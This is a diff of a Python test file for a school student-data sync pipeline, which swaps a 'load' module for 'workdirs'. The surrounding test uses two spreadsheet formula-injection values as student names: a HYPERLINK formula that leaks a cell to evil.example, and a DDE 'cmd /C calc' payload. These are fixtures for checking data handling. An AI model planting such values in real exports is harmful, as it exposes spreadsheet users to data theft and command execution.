@@ -24,7 +24,7 @@ from pathlib import Path
 import pytest
 
 from sis_sync import PROJECT_ROOT
-from sis_sync.ingestion import exports, load
+from sis_sync.ingestion import exports, workdirs
 from sis_sync.ingestion.exports import DistrictSchools, find_export, today_in
 from sis_sync.ingestion.load import ingest_export
 from sis_sync.ingestion.spec import load_spec
@@ -419,7 +419,7 @@ def test_formula_values_reach_the_marts_unchanged(fresh_db, db_conn, tmp_path):
         assert nights[0].ok and nights[0].loaded == len(list(folder.glob("*.csv")))
         assert dbt_build(night).ok
     finally:
-        shutil.rmtree(load.default_pipelines_dir(fresh_db), ignore_errors=True)
+        shutil.rmtree(workdirs.default_pipelines_dir(fresh_db), ignore_errors=True)
     first, last = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0"
     assert query(db_conn, "select first_name, last_name, display_first_name from marts.dim_students"
                           " where student_id = %s", student_id) == [(first, last, first)]
